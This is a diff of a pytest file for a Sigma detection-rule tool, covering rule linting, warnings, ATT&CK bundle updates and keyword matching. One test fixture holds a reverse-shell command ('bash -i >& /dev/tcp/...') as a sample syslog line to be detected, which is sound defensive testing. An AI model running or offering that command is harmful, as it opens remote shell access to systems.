@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import copy
 import json
 from pathlib import Path
 from typing import Any
@@ -63,9 +64,11 @@ def test_check_reports_every_problem_as_file_line_col(soar: Any, pack: Path, tmp
     lines = out.stdout.splitlines()
     tag_line = text.splitlines().index("- attack.t9999") + 1
     assert any(line.startswith(f"{pack / 'broken.yml'}:2:1: invalid YAML: ") for line in lines)
-    assert f"{bad}:1:1: missing required field 'falsepositives'" in lines
-    assert f"{bad}:{tag_line}:3: Invalid MITRE ATT&CK tagging (attack.t9999)" in lines
-    assert f"{bad}:{tag_line}:3: no ATT&CK technique tag (attack.tNNNN or attack.tNNNN.NNN)" not in lines
+    assert f"{bad}:1:1: warning: missing required field 'falsepositives' [sigmahq_fields]" in lines
+    unknown_tag = next(line for line in lines if "(attack.t9999)" in line)
+    assert unknown_tag.startswith(f"{bad}:{tag_line}:3: warning: Invalid MITRE ATT&CK tagging (attack.t9999)")
+    assert "not in the shipped ATT&CK data (v18.1)" in unknown_tag and unknown_tag.endswith("[attacktag]")
+    assert not any("no ATT&CK technique tag" in line for line in lines)
     assert any(line.startswith(f"{unmapped}:") and "field 'TargetImage' is not mapped" in line for line in lines)
     assert "Traceback" not in out.stderr
 
@@ -76,15 +79,37 @@ def test_check_reports_sigmahq_conventions(soar: Any, pack: Path) -> None:
     bad = write(pack / "conventions.yml", text)
     tags = text.splitlines().index("tags:") + 1
     out = soar("rules", "check", str(bad))
-    assert out.returncode == 1
-    assert out.stdout.splitlines() == [
-        f"{bad}:1:1: missing required field 'description'",
-        f"{bad}:1:1: missing required field 'author'",
-        f"{bad}:{tags}:1: no ATT&CK technique tag (attack.tNNNN or attack.tNNNN.NNN)",
-        f"{bad}:{tags + 1}:3: tag 'attack.Execution' must be lower case",
-        f"{bad}:{tags + 1}:3: Invalid MITRE ATT&CK tagging (attack.Execution)",
-        f"{bad}:{tags + 1}:3: Invalid char in namaspace or name tag (attack.Execution)",  # pySigma's spelling
+    assert out.returncode == 0, out.stdout  # conventions are warnings: a community rule missing them still runs
+    assert "1 rules checked, 6 problems (0 errors, 6 warnings)" in out.stderr
+    lines = out.stdout.splitlines()
+    assert lines[:2] == [
+        f"{bad}:1:1: warning: missing required field 'description' [sigmahq_fields]",
+        f"{bad}:1:1: warning: missing required field 'author' [sigmahq_fields]",
     ]
+    assert lines[2:4] == [
+        f"{bad}:{tags}:1: warning: no ATT&CK technique tag (attack.tNNNN or attack.tNNNN.NNN) [attack_technique_tag]",
+        f"{bad}:{tags + 1}:3: warning: tag 'attack.Execution' must be lower case [lowercase_tags]",
+    ]
+    assert lines[4].startswith(f"{bad}:{tags + 1}:3: warning: Invalid MITRE ATT&CK tagging (attack.Execution)")
+    # pySigma's spelling
+    assert (
+        lines[5]
+        == f"{bad}:{tags + 1}:3: warning: Invalid char in namaspace or name tag (attack.Execution) [tag_format]"
+    )
+    assert soar("rules", "check", str(bad), "--strict").returncode == 1  # our own pack keeps them all
+    quiet = soar("rules", "check", str(bad), "-x", "sigmahq_fields", "-x", "attacktag", "--json")
+    report = json.loads(quiet.stdout)
+    assert report["warnings"] == 3 and report["errors"] == 0
+    assert report["problems"][0] == {
+        "file": str(bad),
+        "line": tags,
+        "column": 1,
+        "severity": "warning",
+        "validator": "attack_technique_tag",
+        "message": "no ATT&CK technique tag (attack.tNNNN or attack.tNNNN.NNN)",
+    }
+    unknown = soar("rules", "check", str(bad), "-x", "nope")
+    assert unknown.returncode != 0 and "--exclude: unknown validator 'nope' (known: required_fields" in unknown.stderr
 
 
 def test_convert_elasticsearch_json_and_embedded(soar: Any, pack: Path, tmp_path: Path) -> None:
@@ -110,16 +135,16 @@ def test_convert_elasticsearch_json_and_embedded(soar: Any, pack: Path, tmp_path
                 {
                     "bool": {
                         "filter": [
-                            {"term": {"event.category": {"value": "process"}}},
-                            {"term": {"event.type": {"value": "start"}}},
+                            {"term": {"event.category": "process"}},
+                            {"term": {"event.type": "start"}},
                         ]
                     }
                 },
                 {
                     "bool": {
                         "filter": [
-                            {"term": {"event.dataset": {"value": "sysmon_linux.log"}}},
-                            {"term": {"event.code": {"value": "1"}}},
+                            {"term": {"event.dataset": "sysmon_linux.log"}},
+                            {"term": {"event.code": "1"}},
                         ]
                     }
                 },
@@ -428,7 +453,8 @@ def test_an_empty_rule_file_and_fixtures_without_a_rule_are_problems_not_skipped
 
 def test_a_fixture_timestamp_that_is_not_a_date_fails_the_rule_at_its_line(soar: Any, pack: Path) -> None:
     fixtures = yaml.safe_load((pack / "curl_sh.tests.yml").read_text())
-    fixtures["should_not_match"].append({**fixtures["should_not_match"][0], "@timestamp": "yesterday"})
+    copied = copy.deepcopy(fixtures["should_not_match"][0])  # shared values would be dumped as aliases (refused)
+    fixtures["should_not_match"].append({**copied, "@timestamp": "yesterday"})
     (pack / "curl_sh.tests.yml").write_text(yaml.safe_dump(fixtures))
     out = soar("rules", "test", str(pack), "--json")
     assert out.returncode == 1
@@ -454,3 +480,106 @@ def test_coverage_sources_prints_the_rule_by_source_matrix(soar: Any, pack: Path
     assert "left out: " in out.stdout and "auditd_log: auditd_log does not write CommandLine" in out.stdout
     data = json.loads(soar("rules", "coverage", str(pack), "--json").stdout)
     assert data["rules"][0]["left_out"] == {"auditd_log": "auditd_log does not write CommandLine"}
+
+
+def test_the_shipped_pack_is_clean_even_under_strict(soar: Any) -> None:
+    from tests.conftest import REPO_ROOT
+
+    out = soar("rules", "check", str(REPO_ROOT / "rules"), "--strict")
+    assert out.returncode == 0, out.stdout
+    assert out.stdout == "" and "problems (0 errors, 0 warnings)" in out.stderr
+
+
+def test_community_rules_as_published_are_errors_or_warnings_with_a_summary(soar: Any) -> None:
+    """SigmaHQ's rules/linux: every rule compiles for both engines or is refused with one reason at its line;
+    tags newer than the bundled ATT&CK are warnings, not failures of the rule."""
+    from tests.conftest import REPO_ROOT
+
+    community = REPO_ROOT / "tests" / "data" / "sigmahq" / "rules" / "linux"  # provenance: its README.md
+    out = soar("rules", "check", str(community), "--json", "--summary")
+    report = json.loads(out.stdout)
+    assert report["rules"] == 210 and "Traceback" not in out.stderr
+    problems = report["problems"]
+    assert all(set(p) == {"file", "line", "column", "severity", "validator", "message"} for p in problems)
+    assert all(p["line"] for p in problems)  # every problem names its line
+    tags = [p for p in problems if p["validator"] == "attacktag"]
+    assert tags and {p["severity"] for p in tags} == {"warning"}
+    assert any("(attack.stealth)" in p["message"] for p in tags)
+    refused = [p for p in problems if p["validator"].startswith("compile:")]
+    assert refused and {p["severity"] for p in refused} == {"error"}
+    refused_rules = {p["file"] for p in refused}
+    per_rule = {f: [p for p in refused if p["file"] == f] for f in refused_rules}
+    assert all(len(v) <= 2 for v in per_rule.values())  # one reason (at most once per engine when they differ)
+    assert out.returncode == 1  # refusals are errors
+    assert any("compile:elasticsearch" in line for line in report["summary"])
+
+
+def test_update_attack_loads_a_newer_bundle_offline(
+    soar: Any, pack: Path, tmp_path: Path, request: pytest.FixtureRequest
+) -> None:
+    """A bundle as MITRE publishes it (here the shipped one with the tactic renamed the way v19 renamed it, and
+    its version changed), reduced and kept in the state folder: the tag it adds is no longer unknown."""
+    from soar.detection._attack import shipped_bundle_path, use_attack_data_dir
+
+    request.addfinalizer(lambda: use_attack_data_dir(None))  # in-process runs: the next test reads the shipped data
+    rule = write(
+        pack / "stealthy.yml",
+        rule_yaml({"sel": {"Image": "x"}, "condition": "sel"}, extra={"tags": ["attack.stealth", "attack.t1059"]}),
+    )
+    before = soar("rules", "check", str(rule))
+    assert "Invalid MITRE ATT&CK tagging (attack.stealth)" in before.stdout and "(v18.1)" in before.stdout
+    bundle = json.loads(shipped_bundle_path().read_text())
+    for obj in bundle["objects"]:
+        if obj.get("x_mitre_shortname") == "defense-evasion":
+            obj.update(name="Stealth", x_mitre_shortname="stealth")
+        if obj["type"] == "x-mitre-collection":
+            obj["x_mitre_version"] = "19.0-test"
+        if obj["type"] == "attack-pattern":
+            obj["description"] = "not read by validation: left out of the kept bundle"
+    downloaded = write(tmp_path / "enterprise-attack.json", json.dumps(bundle))
+    updated = soar("rules", "update-attack", str(downloaded))
+    assert updated.returncode == 0, updated.stderr
+    assert "ATT&CK v19.0-test" in updated.stdout and "(was v18.1)" in updated.stdout
+    kept = tmp_path / "state" / "attack" / "enterprise-attack.json"
+    assert "not read by validation" not in kept.read_text()
+    after = soar("rules", "check", str(rule))
+    assert after.returncode == 0 and "attack.stealth" not in after.stdout, after.stdout
+    for bad, why in (("[1, 2]", "not a STIX bundle"), ('{"type": "bundle", "objects": []}', "no x-mitre-collection")):
+        broken = soar("rules", "update-attack", str(write(tmp_path / "bad.json", bad)))
+        assert broken.returncode != 0 and why in broken.stderr and "Traceback" not in broken.stderr
+    assert json.loads(kept.read_text())["objects"]  # a refused file left the loaded bundle as it was
+
+
+def test_a_product_linux_keyword_rule_searches_every_linux_log_line(soar: Any, tmp_path: Path) -> None:
+    """``product: linux`` alone (SigmaHQ's keyword rules) means the Linux log lines soar knows: the system
+    integration's auth and syslog documents. Real documents (tests/data/shippers), the line changed."""
+    from tests.conftest import REPO_ROOT
+
+    shippers = REPO_ROOT / "tests" / "data" / "shippers"
+    syslog = json.loads((shippers / "system_syslog" / "systemd_started_ssh_service_start.json").read_text())
+    endpoint = json.loads((shippers / "endpoint" / "linux_exec_ls_dev_build.json").read_text())
+    line = "May 27 11:19:36 web1 bash[4242]: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
+
+    def syslog_doc(message: str) -> dict[str, Any]:
+        doc = json.loads(json.dumps(syslog["document"]))
+        doc.update(message=message, event={**doc["event"], "dataset": syslog["provenance"]["data_stream"]})
+        return doc
+
+    events = [
+        syslog_doc(line),  # the reverse shell in a syslog line
+        syslog_doc("May 27 11:19:36 web1 systemd[1]: Started ssh.service"),
+        {**endpoint["document"], "message": line},  # an EDR document is not a log line
+    ]
+    events_file = write(tmp_path / "events.json", json.dumps(events))
+    rule = write(
+        tmp_path / "rules" / "dev_tcp.yml",
+        rule_yaml({"keywords": ["bash -i >& /dev/tcp/"], "condition": "keywords"}, logsource={"product": "linux"}),
+    )
+    for engine in ("embedded",):
+        out = soar("rules", "test", str(rule), "--events", str(events_file), "--engine", engine, "--json")
+        assert out.returncode == 0, out.stdout + out.stderr
+        (row,) = json.loads(out.stdout)["rules"]
+        assert row["matched_events"] == [0], row  # the first event only (0-based)
+    compiled = json.loads(soar("rules", "convert", str(rule), "--json").stdout)[0]
+    assert compiled["sources"] == ["system"]
+    assert {"terms": {"event.dataset": ["system.auth", "system.syslog"]}} in compiled["dsl"]["query"]["bool"]["filter"]
